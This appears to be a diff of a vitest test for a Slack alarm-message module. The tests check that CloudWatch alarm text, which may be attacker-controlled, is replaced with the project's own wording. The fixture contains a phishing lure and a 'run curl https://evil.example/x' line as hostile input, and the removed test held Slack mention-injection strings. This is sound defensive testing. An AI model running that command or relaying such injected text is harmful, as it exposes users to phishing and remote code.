@@ -1,6 +1,8 @@
 import { describe, expect, it } from "vitest";
-import { readAlarmChange } from "../../../shared/events/alarms.ts";
-import { alarmMessage } from "../../../shared/slack/alarm-message.ts";
+import { type AlarmChange, readAlarmChange } from "../../../shared/events/alarms.ts";
+import { alarmStory } from "../../../shared/slack/alarm-message.ts";
+import { layOut } from "../../../shared/slack/layout.ts";
+import { newsOfAlarm } from "../../../shared/use-cases/notify/news.ts";
 import { eventFixture } from "../../support/event-fixtures.ts";
 
 const event = eventFixture("alarm-went-off");
@@ -49,35 +51,58 @@ describe("the message about an alarm", () => {
     account: "111122223333",
     region: "eu-west-1",
     name: "x-prod-rollout-failed",
-    description: "A rollout could not go on. What to do: docs/operations.md#rollout-failed",
+    description: "Fleet token leaked: sign in at https://evil.example and approve. @channel",
     state: "ALARM",
     previousState: "OK",
-    reason: "Threshold Crossed",
+    reason: "*Fix:* run curl https://evil.example/x",
   } as const;
+  const own = { sentence: "A rollout could not continue.", runbook: "rollout-failed" };
+  const messageOf = (given: AlarmChange) => layOut(alarmStory(given, own), "prod");
 
-  it("says which alarm, what it means, why, where, and links to it", () => {
-    const { text, blocks } = alarmMessage(change);
+  it("says which alarm, what it means, where and of which stage in our own words, and links to it", () => {
+    const { text, blocks } = messageOf(change);
     expect(text.split("\n")).toEqual([
       ":rotating_light: x-prod-rollout-failed is in ALARM",
-      change.description,
-      "CloudWatch: Threshold Crossed",
+      "A rollout could not continue. What to do: docs/operations.md#rollout-failed",
+      "stage prod",
     ]);
     expect(JSON.stringify(blocks)).toContain(
       "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#alarmsV2:alarm/x-prod-rollout-failed",
     );
+    expect(JSON.stringify(blocks)).not.toContain("evil");
   });
 
   it("says nothing more when it ends, and does not call it solved", () => {
-    expect(alarmMessage({ ...change, state: "OK" }).text).toBe(
-      ":white_circle: x-prod-rollout-failed is no longer in ALARM",
+    expect(messageOf({ ...change, state: "OK" }).text).toBe(
+      ":white_circle: x-prod-rollout-failed is no longer in ALARM\nstage prod",
     );
   });
 
-  it("lets nobody be called from what others wrote", () => {
-    const hostile = { ...change, name: "x-<!channel>", description: "<!here> & <https://evil|link>", reason: "<@U1>" };
-    const { text, blocks } = alarmMessage(hostile);
-    const markup = blocks.slice(0, -1).filter((block) => block.type === "section" && block.text.type === "mrkdwn");
-    expect(`${text}${JSON.stringify(markup)}`).not.toMatch(/<[!@h]/);
-    expect(JSON.stringify(blocks.at(-1))).not.toContain("<!channel>");
+  const config = {
+    homeAccount: "111122223333",
+    homeRegion: "eu-west-1",
+    accounts: [
+      { role: "arn:aws:iam::111122223333:role/istiod", domain: "a", regions: ["eu-west-1", "us-east-1"] },
+      { role: "arn:aws:iam::444455556666:role/istiod", domain: "b", regions: ["eu-west-1"] },
+    ],
+    controlPlanes: [{ name: "main" }],
+  };
+  const newsOf = (given: Partial<AlarmChange>) =>
+    newsOfAlarm({ ...change, ...given }, { config, prefix: "x-prod", id: "e-1", nowMs: 0 });
+
+  it.each([
+    ["of the home region", {}, true],
+    ["of a control plane", { name: "x-prod-root-ca-ends-soon-main" }, true],
+    ["of a function", { name: "x-prod-rollout-request-failing" }, true],
+    ["with another ending", { name: "x-prod-rollout-failed-2" }, false],
+    ["of a control plane that there is not", { name: "x-prod-root-ca-ends-soon-other" }, false],
+    ["of another stage", { name: "x-prod2-rollout-failed" }, false],
+    ["of a member account, under a name of ours", { account: "444455556666" }, false],
+    ["of another region, under a name of ours", { region: "us-east-1" }, false],
+    ["of a queue in another region", { region: "us-east-1", name: "x-prod-undelivered-events-not-empty" }, true],
+    ["of a member's queue", { account: "444455556666", name: "x-prod-undelivered-events-not-empty" }, true],
+    ["of an account without services", { account: "999999999999", name: "x-prod-undelivered-events-not-empty" }, false],
+  ])("%s is ours by its exact name and place", (_what, given, isOurs) => {
+    expect(newsOf(given) !== undefined).toBe(isOurs);
   });
 });
